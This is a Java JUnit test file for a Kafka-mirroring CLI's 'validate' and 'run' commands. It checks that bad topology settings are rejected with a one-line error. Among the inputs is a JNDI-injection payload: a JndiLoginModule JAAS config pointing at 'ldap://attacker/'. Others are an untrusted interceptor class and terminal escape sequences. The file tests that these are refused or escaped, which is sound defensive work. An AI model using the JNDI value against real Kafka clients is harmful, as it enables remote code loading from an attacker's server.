package io.kmirror.replicator.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Input that {@code run} could never use is refused by {@code validate}: exit 2, one line naming
 * the key and what is accepted, then the count. Each case adds lines to a valid two-cluster file.
 */
class ValidateFailFastTest {

  private static final String ENV_PROVIDER =
      "config.providers = env, file\n"
          + "config.providers.env.class ="
          + " org.apache.kafka.common.config.provider.EnvVarConfigProvider\n"
          + "config.providers.file.class ="
          + " org.apache.kafka.common.config.provider.FileConfigProvider";

  @TempDir Path dir;

  static Stream<Arguments> neverWorkingInput() {
    return Stream.of(
        Arguments.of(
            "refresh.topics.interval.seconds = 9223372036854775807",
            "key 'refresh.topics.interval.seconds' value '9223372036854775807' is not a valid"
                + " interval; expected a whole number of seconds from 1 to 86400 (one day)"),
        Arguments.of(
            "kmirror.shutdown.timeout.seconds = 100000",
            "key 'kmirror.shutdown.timeout.seconds' value '100000' is not a valid timeout;"
                + " expected a whole number of seconds from 1 to 3600 (one hour)"),
        Arguments.of(
            "tasks.max = 10000",
            "key 'tasks.max' value '10000' is not a valid task count; expected a whole number from"
                + " 1 to 64"),
        Arguments.of(
            "B.bootstrap.servers = localhost:99999",
            "key 'B.bootstrap.servers' value 'localhost:99999' has an entry 'localhost:99999' whose"
                + " port 99999 is out of range; expected host:port[,host:port...] with each port"
                + " from 1 to 65535, or 'embedded'"),
        Arguments.of(
            "B.bootstrap.servers = ${env:B_BOOTSTRAP",
            "key 'B.bootstrap.servers' value '${env:B_BOOTSTRAP' has a '${' without a closing '}';"
                + " expected a config-provider reference ${provider:[path:]key}"),
        Arguments.of(
            ENV_PROVIDER + "\nB.bootstrap.servers = ${env:KMIRROR_TEST_NEVER_SET_18}",
            "key 'B.bootstrap.servers' refers to '${env:KMIRROR_TEST_NEVER_SET_18}', but"
                + " environment variable KMIRROR_TEST_NEVER_SET_18 is not set; expected it set in"
                + " kmirror's environment"),
        Arguments.of(
            ENV_PROVIDER + "\nB.sasl.jaas.config = ${file:/nonexistent:key}",
            "key 'B.sasl.jaas.config' refers to '${file:/nonexistent:key}', but /nonexistent"
                + " cannot be read (no such file); expected a readable properties file"),
        Arguments.of(
            "A.consumer.interceptor.classes = com.example.Spy",
            "key 'A.consumer.interceptor.classes' names class 'com.example.Spy', which kmirror does"
                + " not load from a topology; expected no such key, or"
                + " 'kmirror.allow.custom.classes = true' to load classes of your own"),
        Arguments.of(
            "B.sasl.jaas.config = com.sun.security.auth.module.JndiLoginModule required"
                + " user.provider.url=\"ldap://attacker/\";",
            "key 'B.sasl.jaas.config' names login module"
                + " 'com.sun.security.auth.module.JndiLoginModule', which kmirror does not load from"
                + " a topology; expected one of com.sun.security.auth.module.Krb5LoginModule,"
                + " org.apache.kafka.common.security.oauthbearer.OAuthBearerLoginModule,"
                + " org.apache.kafka.common.security.plain.PlainLoginModule,"
                + " org.apache.kafka.common.security.scram.ScramLoginModule, or"
                + " 'kmirror.allow.custom.classes = true' to load classes of your own"),
        Arguments.of(
            "clusters = A, B, a\na.bootstrap.servers = c:9092",
            "key 'clusters' value 'A, B, a' names 'A' and 'a', which differ only in case; expected"
                + " aliases that differ in more than case (remote topic names and metrics would be"
                + " hard to tell apart)"));
  }

  @ParameterizedTest
  @MethodSource("neverWorkingInput")
  void neverWorkingInputIsOneLineAndExitTwo(String lines, String problem) throws IOException {
    Path file = file(lines);

    CommandRun run = CommandRun.of("validate", file.toString());

    assertThat(run.status()).isEqualTo(ExitCode.BAD_INPUT);
    assertThat(run.out()).isEmpty();
    assertThat(run.errLines())
        .containsExactly(file + ": " + problem, "kmirror validate: the topology has 1 error");
  }

  @ParameterizedTest
  @MethodSource("neverWorkingInput")
  void runRefusesTheSameInputBeforeStartingAnything(String lines, String problem)
      throws IOException {
    Path file = file(lines);

    CommandRun run = CommandRun.of("run", file.toString());

    assertThat(run.status()).isEqualTo(ExitCode.BAD_INPUT);
    assertThat(run.errLines())
        .containsExactly(file + ": " + problem, "kmirror run: the topology has 1 error");
  }

  @Test
  void controlBytesOfABinaryFileAreEscapedAndUnknownKeysCapped() throws IOException {
    List<String> lines = new ArrayList<>(List.of(base().split("\n")));
    for (int i = 0; i < 30; i++) {
      lines.add("\u001b[2Jjunk" + i + " = \u0000");
    }
    Path file = dir.resolve("binary.properties");
    Files.writeString(file, String.join("\n", lines));

    CommandRun run = CommandRun.of("validate", file.toString());

    assertThat(run.status()).isEqualTo(ExitCode.OK);
    assertThat(run.out())
        .doesNotContain("\u001b")
        .doesNotContain("\u0000")
        .contains("Warnings (21)");
    assertThat(run.outLines())
        .contains(
            "  "
                + file
                + ": warning: key '\\u001b[2Jjunk0' is not a known kmirror, MM2 or Kafka client"
                + " key; passed to Kafka clients as is",
            "  "
                + file
                + ": warning: ... and 10 more unknown keys (only the first 20 are listed);"
                + " expected kmirror, MM2 or Kafka client keys");
  }

  @Test
  void noResolveChecksReferencesForSyntaxOnlySoADeploymentFileValidatesAwayFromItsSecrets() {
    Path k8s = Path.of("..", "deploy", "k8s", "kmirror.properties");

    CommandRun followed = CommandRun.of("validate", k8s.toString());
    CommandRun syntaxOnly = CommandRun.of("validate", "--no-resolve", k8s.toString());

    assertThat(followed.status()).isEqualTo(ExitCode.BAD_INPUT);
    assertThat(followed.errLines())
        .contains(
            k8s
                + ": key 'source.sasl.jaas.config' refers to '${env:SOURCE_SASL_JAAS_CONFIG}', but"
                + " environment variable SOURCE_SASL_JAAS_CONFIG is not set; expected it set in"
                + " kmirror's environment");
    assertThat(syntaxOnly.status()).as(syntaxOnly.err()).isEqualTo(ExitCode.OK);
    assertThat(syntaxOnly.err()).isEmpty();
  }

  @Test
  void noResolveStillRefusesAnUnbalancedReference() throws IOException {
    Path file = file("B.sasl.jaas.config = ${env:B_JAAS");

    CommandRun run = CommandRun.of("validate", "--no-resolve", file.toString());

    assertThat(run.status()).isEqualTo(ExitCode.BAD_INPUT);
    assertThat(run.errLines())
        .containsExactly(
            file
                + ": key 'B.sasl.jaas.config' value '[hidden]' has a '${' without a closing '}';"
                + " expected a config-provider reference ${provider:[path:]key}",
            "kmirror validate: the topology has 1 error");
  }

  /** The base file with {@code more}'s lines; a key the base has is replaced, not repeated. */
  private Path file(String more) throws IOException {
    List<String> lines = new ArrayList<>(List.of(base().split("\n")));
    for (String line : more.split("\n")) {
      String key = line.substring(0, line.indexOf(" ="));
      lines.removeIf(l -> l.startsWith(key + " ="));
      lines.add(line);
    }
    Path file = dir.resolve("topology.properties");
    Files.writeString(file, String.join("\n", lines));
    return file;
  }

  private static String base() {
    return "clusters = A, B\nA.bootstrap.servers = a:9092\nB.bootstrap.servers = b:9092\n"
        + "A->B.enabled = true";
  }
}
